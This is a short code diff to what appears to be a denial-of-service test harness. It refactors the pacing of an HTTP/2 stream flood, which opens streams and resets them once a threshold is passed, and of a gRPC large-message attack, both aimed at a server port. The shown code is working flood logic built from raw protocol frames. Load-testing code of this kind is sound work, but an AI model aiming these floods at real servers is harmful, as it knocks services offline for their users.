@@ -10,7 +10,7 @@ import select
 import sys
 import time
 
-from attacks import connect, hold_many, send_often, whole
+from attacks import connect, hold_many, pace, send_often, whole
 
 DATA, HEADERS, RESET, SETTINGS, PING, GO_AWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9  # RFC 9113, 6
 END_STREAM, ACKNOWLEDGED, END_HEADERS = 1, 1, 4
@@ -122,16 +122,14 @@ def large_message(port, key):
 
 def stream_flood(port):
     """On one connection, streams that never get a message, and behind them others that are taken back at once."""
-    headers, due = headers_of(), time.monotonic()
+    headers, turns = headers_of(), pace(STREAMS_A_SECOND)
     while True:
         try:
             with connect(port) as client:
                 client.sendall(PREFACE)
                 client.setblocking(False)
-                for count in itertools.count():
+                for count, _ in enumerate(turns):
                     stream = 2 * count + 1
-                    due = max(due + 1 / STREAMS_A_SECOND, time.monotonic() - 1)
-                    time.sleep(max(0.0, due - time.monotonic()))
                     client.sendall(open_stream(stream, headers)
                                    + (frame(RESET, 0, stream, b"\0\0\0\x08") if count >= OPEN_STREAMS else b""))
                     try:
@@ -145,7 +143,7 @@ def stream_flood(port):
 
 def attack(name, port, key):
     if name == "grpc_large_message":
-        while True:
+        for _ in pace(50):
             try:
                 large_message(port, key)
             except OSError:
